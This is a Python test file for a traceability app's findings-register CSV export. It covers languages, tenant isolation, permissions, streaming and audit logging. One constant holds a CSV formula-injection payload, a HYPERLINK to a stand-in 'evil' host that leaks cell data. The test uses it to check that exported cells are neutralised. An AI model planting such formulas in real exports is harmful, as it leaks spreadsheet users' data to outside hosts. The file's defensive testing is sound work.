# SPDX-License-Identifier: Apache-2.0
"""The register of findings as CSV: whose it is, what stands in it, and that it is safe to open."""

import csv
import io
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, replace
from typing import Any
from uuid import UUID

import pytest
from starlette.types import ASGIApp, Message, Receive, Scope, Send
from tests.budgets import max_queries
from tests.console_house import Office
from tests.console_site import Browser
from tests.scanning_world import Tenant
from tests.supervised_world import (
    GUANGDONG,
    GUIYANG,
    GUIZHOU,
    JIANGSU,
    NANJING,
    Supervised,
    join_authority,
    seat,
)

from trueorigin.domain.audit import TrailFilter
from trueorigin.domain.catalog import LocalText
from trueorigin.domain.eventdrafts import EventDraft
from trueorigin.domain.events import EventKind
from trueorigin.domain.inspections import DETAIL
from trueorigin.domain.packing import Span
from trueorigin.domain.people import MEMBERSHIP_PERMISSIONS, MembershipRole
from trueorigin.domain.sites import SiteKind
from trueorigin.domain.spreadsheets import BYTE_ORDER_MARK
from trueorigin.domain.tenancy import ROLE_PERMISSIONS, Permission, Role
from trueorigin.services import capturing, following, sites
from trueorigin.services.sites import SiteDraft
from trueorigin.storage import accounts, audit, catalog

PATH = "/console/findings.csv"
RESULT, STATE, AUTHORITY, OWNERS, PRODUCT, NUMBER, UNITS, SITE, DOCUMENT, NOTES, ID = range(1, 12)
# More than one chunk, and the last one whole: the end is not told by a chunk that is short.
MANY = 1000


@dataclass(frozen=True, slots=True)
class Bureau:
    """The office, an authority whose Rita looks into the goods of both makers, and a second one."""

    office: Office
    supervised: Supervised
    other: Tenant

    def browser(self, tenant: Tenant | None = None, language: str = "en") -> Browser:
        """Sign in somebody of a tenant, Rita's authority unless told otherwise."""
        person = self.office.site.hire(tenant or self.supervised.rita, "Rita")
        browser = self.office.browser(person)
        browser.language = language
        return browser

    def find(
        self,
        result: str = "sealed",
        *spans: Span,
        by: Tenant | None = None,
        **finding: Any,  # noqa: ANN401 - of any type
    ) -> str:
        """Record a finding on ten of Alice's items, unless told otherwise; return its id."""
        site_id = finding.pop("site_id", None)
        outcome = self.supervised.tell(
            by or self.supervised.rita,
            EventKind.INSPECTING,
            *(spans or (Span(self.office.alices.run.id, 0, 0, 10),)),
            details={DETAIL: {"result": result, **finding}},
            site_id=site_id,
        )
        assert outcome.error is None, outcome.error
        return str(outcome.event_id)


def open_bureau(office: Office) -> Bureau:
    world = office.site.world
    with world.database.write() as tx:
        rita = world.join(tx)
        organisation = replace(rita.organisation, roles=frozenset({Role.REGULATOR}))
        accounts.update_organisation(tx, rita.scope, organisation)
    rita = replace(rita, organisation=organisation)
    supervised = Supervised(world, office.alices, office.charlies, rita)
    return Bureau(office, supervised, join_authority(supervised))


@pytest.fixture
def bureau(office: Office) -> Bureau:
    return open_bureau(office)


@pytest.fixture
def both_bureaus(both_offices: Office) -> Bureau:
    """On SQLite and on PostgreSQL."""
    return open_bureau(both_offices)


def read(browser: Browser, query: str = "") -> list[list[str]]:
    """Return the lines of the file, without heading."""
    return read_whole(browser, query)[1:]


def read_whole(browser: Browser, query: str = "") -> list[list[str]]:
    response = browser.send("GET", PATH + query)
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"] == 'attachment; filename="findings.csv"'
    text = response.content.decode()
    assert text.startswith(BYTE_ORDER_MARK)
    assert text.count(BYTE_ORDER_MARK) == 1
    return list(
        csv.reader(io.StringIO(text.removeprefix(BYTE_ORDER_MARK), newline=""), strict=True)
    )


def ids(browser: Browser, query: str = "") -> list[str]:
    return [row[ID] for row in read(browser, query)]


HEADS = {
    "en": ["Time (Asia/Shanghai)", "Result", "State", "Authority", "Enterprise", "Product",
           "Product number", "Units (run/level/first-last)", "Place", "Document", "Notes", "Id"],
    "zh": ["时间（Asia/Shanghai）", "结果", "状态", "监管机构", "企业", "商品",
           "商品编号", "单元（码段/层级/第一个-最后一个）", "地点", "文书", "说明", "编号"],
}  # fmt: skip
WORDS = {
    "en": ("Sealed by an authority", "Open", "Celadon", "Two differ\nof ten"),
    "zh": ("监管查封", "跟进中", "青瓷", "十瓶中\n两瓶不符"),
}


@pytest.mark.parametrize("language", ["en", "zh"])
def test_a_line_says_all_of_a_finding_in_the_readers_language(
    both_bureaus: Bureau, language: str
) -> None:
    bureau, alice = both_bureaus, both_bureaus.office.alices
    zone = "Asia/Shanghai"
    with bureau.office.site.world.database.write() as tx:
        rita = accounts.get_organisation(tx, bureau.supervised.rita.scope)
        accounts.update_organisation(
            tx, bureau.supervised.rita.scope, replace(rita, time_zone=zone)
        )
        named = replace(alice.product, name=LocalText(zh="青瓷", en="Celadon"))
        catalog.update_product(tx, alice.scope, named)
    site = bureau.supervised.add_site(bureau.supervised.rita, NANJING)
    run = alice.run.id
    found = bureau.find(
        "sealed",
        Span(run, 0, 0, 10),
        Span(run, 1, 3, 4),
        site_id=site.id,
        authority="南京市局, Jiangsu",
        document="No. 17",
        notes={"zh": "十瓶中\n两瓶不符", "en": "Two differ\nof ten"},
    )
    [heads, line] = read_whole(bureau.browser(language=language))
    assert heads == HEADS[language]
    result, state, product, notes = WORDS[language]
    # 09:30 and some seconds UTC, on the clocks of Shanghai.
    assert line[0].startswith("2026-03-14 17:3")
    assert line[1:] == [
        result, state, "南京市局, Jiangsu", alice.organisation.name, product, alice.product.gtin,
        f"{run}/0/0-9; {run}/1/3-3", "Shop", "No. 17", notes, found,
    ]  # fmt: skip


def test_who_wrote_no_office_is_named_and_what_is_missing_is_empty(bureau: Bureau) -> None:
    bureau.find("conforms")
    [line] = read(bureau.browser())
    assert line[AUTHORITY] == bureau.supervised.rita.organisation.name
    assert line[SITE] == line[DOCUMENT] == line[NOTES] == ""


def test_goods_of_several_products_are_all_named(bureau: Bureau) -> None:
    alice, charlie = bureau.office.alices, bureau.office.charlies
    bureau.find("sampled", *(Span(each.run.id, 0, 0, 5) for each in (alice, charlie)))
    [line] = read(bureau.browser())
    assert set(line[NUMBER].split("; ")) == {alice.product.gtin, charlie.product.gtin}
    assert len(line[PRODUCT].split("; ")) == 2
    names = sorted(each.organisation.name for each in (alice, charlie))
    assert line[OWNERS] == "; ".join(names)


EVIL = '=HYPERLINK("//evil?"&A1,"open")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", " =", "＝", "＠"])
def test_no_cell_begins_a_formula(bureau: Bureau, start: str) -> None:
    alice, rita = bureau.office.alices, bureau.supervised.rita
    evil = f"{start}{EVIL[1:]}"
    with bureau.office.site.world.database.write() as tx:
        named = replace(alice.product, name=LocalText(zh=evil, en=evil))
        catalog.update_product(tx, alice.scope, named)
        for tenant in (alice, rita):
            found = accounts.get_organisation(tx, tenant.scope)
            name = f"{evil}{tenant.organisation.name}"
            accounts.update_organisation(tx, tenant.scope, replace(found, name=name))
        draft = SiteDraft(kind=SiteKind.SHOP, name=evil, region=evil)
        site = sites.create_site(tx, bureau.supervised.act(), draft)
    texts: dict[str, Any] = {"authority": evil, "document": evil, "notes": {"en": evil}}
    bureau.find("sealed", site_id=site.id, **texts)
    bureau.find("sealed", site_id=site.id)
    rows = read(bureau.browser())
    assert len(rows) == 2
    for row in rows:
        for cell in row:
            assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))
    kept = evil.strip()
    for at in (AUTHORITY, PRODUCT, SITE, DOCUMENT, NOTES):
        # Rows are newest first: the older one has all texts.
        assert rows[1][at].removeprefix("'").strip().startswith(kept), at
        assert rows[1][at].startswith("'")
    assert rows[1][OWNERS].startswith("'")


def test_lines_and_quotes_of_a_note_stay_in_their_cell(bureau: Bureau) -> None:
    note = 'Said "no", then; \n=1+1\n, left'
    bureau.find("conforms", notes={"en": note})
    bureau.find("conforms", document='"=1+1"')
    rows = read(bureau.browser())
    assert [len(row) for row in rows] == [12, 12]
    assert rows[1][NOTES] == note
    assert rows[0][DOCUMENT] == '"=1+1"'


def test_an_authority_takes_its_own_findings_only(bureau: Bureau) -> None:
    mine = bureau.find("sealed")
    theirs = bureau.find("suspected_counterfeit", by=bureau.other, notes={"en": "Secret talk"})
    assert ids(bureau.browser()) == [mine]
    assert ids(bureau.browser(bureau.other)) == [theirs]
    for name, value in (
        ("product", bureau.office.alices.product.id),
        ("enterprise", bureau.office.alices.organisation.id),
    ):
        assert ids(bureau.browser(), f"?{name}={value}") == [mine]


def test_nothing_from_outside_the_remit_can_be_asked_for(bureau: Bureau) -> None:
    supervised, alice, charlie = bureau.supervised, bureau.office.alices, bureau.office.charlies
    seat(supervised, alice, GUIZHOU + "0103")
    supervised.keep_goods(alice, GUIYANG)
    seat(supervised, charlie, GUANGDONG + "0103", 2)
    supervised.limit(GUIZHOU)
    mine = bureau.find("sealed")
    bureau.find("sealed", Span(charlie.run.id, 0, 0, 5), by=bureau.other)
    rita = bureau.browser()
    assert ids(rita) == [mine]
    assert ids(rita, f"?enterprise={alice.organisation.id}&product={alice.product.id}") == [mine]
    # What lies outside is not there, and not named: neither in the file nor on the page.
    for name, value, secret in (
        ("enterprise", charlie.organisation.id, charlie.organisation.name),
        ("product", charlie.product.id, charlie.product.name.en or ""),
        ("enterprise", bureau.other.organisation.id, bureau.other.organisation.name),
        ("product", UUID(int=7), "7" * 9),
    ):
        for path in (PATH, "/console/findings"):
            response = rita.get(f"{path}?{name}={value}")
            assert response.status_code == 404, (name, path)
            assert secret not in response.text
    assert rita.get(f"{PATH}?region=3211").status_code == 422
    # What it recorded itself stays its own, whatever it answers for from now on.
    supervised.limit(JIANGSU)
    assert ids(rita) == [mine]
    assert rita.get(f"{PATH}?product={alice.product.id}").status_code == 404


def test_the_file_holds_what_the_page_is_narrowed_to(bureau: Bureau) -> None:
    supervised, charlie = bureau.supervised, bureau.office.charlies
    sites_of = {at: supervised.add_site(supervised.rita, at).id for at in (NANJING, GUIYANG)}
    first = bureau.find("sealed", site_id=sites_of[NANJING])
    second = bureau.find("conforms", site_id=sites_of[GUIYANG])
    third = bureau.find("sealed", Span(charlie.run.id, 0, 0, 5))
    closed = bureau.find("sampled", Span(charlie.run.id, 0, 0, 5))
    wrong = bureau.find("does_not_conform", Span(charlie.run.id, 0, 7, 8))
    with bureau.office.site.world.database.write() as tx:
        following.close_finding(tx, supervised.act(), UUID(closed), "Fine")
        capturing.declare_error(tx, supervised.act(), UUID(wrong), reason="Other case")
    rita = bureau.browser()
    assert ids(rita) == [wrong, closed, third, second, first]
    assert ids(rita, "?open=yes") == [third, first]
    assert ids(rita, "?open=no") == [wrong, closed, second]
    assert ids(rita, "?result=sealed&open=") == [third, first]
    assert ids(rita, f"?region={JIANGSU}") == [first]
    assert ids(rita, f"?region={GUIZHOU}&result=sealed") == []
    assert ids(rita, f"?enterprise={charlie.organisation.id}&result=sealed") == [third]
    states = {row[ID]: row[STATE] for row in read(rita)}
    said = {first: "Open", closed: "Closed", second: "Closed", wrong: "Declared in error"}
    assert {key: states[key] for key in said} == said
    # The page offers the same as a file.
    rita.get(f"/console/findings?result=sealed&enterprise={charlie.organisation.id}")
    [link] = [each for each in rita.page.links.values() if each.startswith(PATH)]
    assert ids(rita, link.removeprefix(PATH)) == [third]


def test_an_owner_takes_what_was_found_of_its_goods_and_nothing_of_others(bureau: Bureau) -> None:
    alice, charlie = bureau.office.alices, bureau.office.charlies
    both = bureau.find("sampled", *(Span(each.run.id, 0, 0, 5) for each in (alice, charlie)))
    theirs = bureau.find("sealed", Span(charlie.run.id, 0, 9, 10))
    other = bureau.find("conforms", by=bureau.other)
    browser = bureau.office.browser(bureau.office.alice)
    rows = {row[ID]: row for row in read(browser)}
    assert list(rows) == [other, both]
    assert theirs not in rows
    assert rows[both][OWNERS] == alice.organisation.name
    assert rows[both][NUMBER] == alice.product.gtin
    assert rows[both][UNITS] == f"{alice.run.id}/0/0-4"
    text = browser.send("GET", PATH).text
    assert charlie.organisation.name not in text
    assert str(charlie.product.gtin) not in text
    for name, value in (
        ("product", charlie.product.id),
        ("enterprise", charlie.organisation.id),
        ("enterprise", bureau.supervised.rita.organisation.id),
    ):
        assert browser.send("GET", f"{PATH}?{name}={value}").status_code == 404
        assert browser.get(f"/console/findings?{name}={value}").status_code == 404
    assert ids(browser, f"?product={alice.product.id}") == [other, both]
    assert ids(browser, f"?enterprise={alice.organisation.id}") == [other, both]


@pytest.mark.parametrize("role", list(Role))
def test_what_an_organisation_is_decides(bureau: Bureau, role: Role) -> None:
    bureau.find()
    with bureau.office.site.world.database.write() as tx:
        tenant = bureau.office.site.world.join(tx)
        organisation = replace(tenant.organisation, roles=frozenset({role}))
        accounts.update_organisation(tx, tenant.scope, organisation)
    browser = bureau.browser(replace(tenant, organisation=organisation))
    if Permission.INSPECTION_READ in ROLE_PERMISSIONS[role]:
        assert read(browser) == []
    else:
        assert browser.send("GET", PATH).status_code == 403


@pytest.mark.parametrize("role", list(MembershipRole))
def test_what_a_person_of_the_authority_is_decides(bureau: Bureau, role: MembershipRole) -> None:
    mine = bureau.find()
    bureau.find(by=bureau.other)
    browser = bureau.office.browser(bureau.office.site.hire(bureau.supervised.rita, "Dana", role))
    if Permission.INSPECTION_READ in MEMBERSHIP_PERMISSIONS[role]:
        # Whoever may read it reads its own findings, never takes them for those on its goods.
        assert ids(browser) == [mine]
    else:
        assert browser.send("GET", PATH).status_code == 403


def test_nobody_takes_it_without_signing_in(bureau: Bureau) -> None:
    bureau.find()
    for method in ("GET", "HEAD"):
        response = Browser(bureau.office.site).send(method, PATH)
        assert (response.status_code, response.text) == (303, "")


@contextmanager
def watching(office: Office) -> Iterator[list[bytes]]:
    """Note the pieces in which answers leave the program."""
    app: ASGIApp = office.site.app
    pieces: list[bytes] = []

    async def watch(scope: Scope, receive: Receive, send: Send) -> None:
        async def note(message: Message) -> None:
            if message["type"] == "http.response.body" and message.get("body"):
                pieces.append(message["body"])
            await send(message)

        await app(scope, receive, note)

    office.site.app = watch
    yield pieces
    office.site.app = app


def test_many_findings_leave_in_pieces_each_once(both_bureaus: Bureau) -> None:
    bureau = both_bureaus
    act, run = bureau.supervised.act(), bureau.office.alices.run.id
    details = {DETAIL: {"result": "conforms"}}
    drafts = [
        EventDraft(
            id=act.new_id(), kind=EventKind.INSPECTING, at=act.at, details=details,
            # Two ranges each: the file counts findings, not rows of the register.
            units=(Span(run, 0, 0, 1), Span(run, 0, 2, 3)),
        )
        for _ in range(MANY)
    ]  # fmt: skip
    world = bureau.office.site.world
    with world.database.write() as tx:
        outcomes = capturing.capture_events(tx, world.catalogue, world.vault, act, drafts)
    assert {each.error for each in outcomes} == {None}
    rita = bureau.browser()
    with watching(bureau.office) as pieces, max_queries(world.database, 50):
        found = ids(rita)
    expected = sorted((str(each.id) for each in drafts), reverse=True)
    assert found == expected
    # The heading, and two chunks: never the whole file at once.
    assert len(pieces) == 3
    assert sum(map(len, pieces)) > 2 * max(map(len, pieces))


def test_each_file_is_in_the_trail_with_what_was_asked_for(bureau: Bureau) -> None:
    alice = bureau.office.alices
    bureau.find()
    rita = bureau.browser()
    assert rita.send("HEAD", PATH).status_code == 200
    read(rita, f"?result=sealed&open=yes&region=&product={alice.product.id}&other=x")
    read(rita)
    assert rita.send("GET", f"{PATH}?region=99").status_code == 422
    with bureau.office.site.world.database.read() as tx:
        wanted = TrailFilter(action="inspection.export")
        lines = audit.list_audit(tx, bureau.supervised.rita.scope, wanted=wanted, limit=9)
        assert audit.list_audit(tx, alice.scope, wanted=wanted, limit=9) == []
    told = {"result": "sealed", "open": "yes", "product": str(alice.product.id)}
    assert [dict(each.detail) for each in lines] == [told, {}]
